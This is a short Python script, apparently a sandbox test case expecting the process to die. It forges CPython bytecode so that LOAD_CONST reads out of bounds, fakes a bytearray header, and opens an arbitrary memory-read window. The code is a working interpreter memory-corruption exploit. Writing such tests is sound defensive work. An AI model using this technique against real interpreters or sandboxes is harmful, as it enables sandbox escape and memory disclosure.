# Reads where its memory has ended long ago.
#
# outcome: died
# time: <= timeout + 100ms
# host_rss: <= memory + 64MiB
import dis
import struct


def at(address):
    """The object whose header is at an address: a constant far outside of its tuple."""
    pointer = struct.pack("<I", address)

    def f():
        pass

    index = (id(pointer) + 16 - (id(f.__code__.co_consts) + 12)) // 4 % 2**32
    code = bytes([dis.opmap["RESUME"], 0])
    for shift in (24, 16, 8):
        code += bytes([dis.opmap["EXTENDED_ARG"], index >> shift & 255])
    code += bytes([dis.opmap["LOAD_CONST"], index & 255, dis.opmap["RETURN_VALUE"], 0])
    f.__code__ = f.__code__.replace(co_code=code, co_stacksize=10)
    return f()


def window(start, size):
    """A bytearray over memory that is not its own."""
    forged = struct.pack("<7I", 1 << 20, id(bytearray), size, size, start, start, 0)
    kept.append(forged)
    return at(id(forged) + 16)


kept = []

window(0, 0x7FFFFFFF)[0x7FFFFFF0]
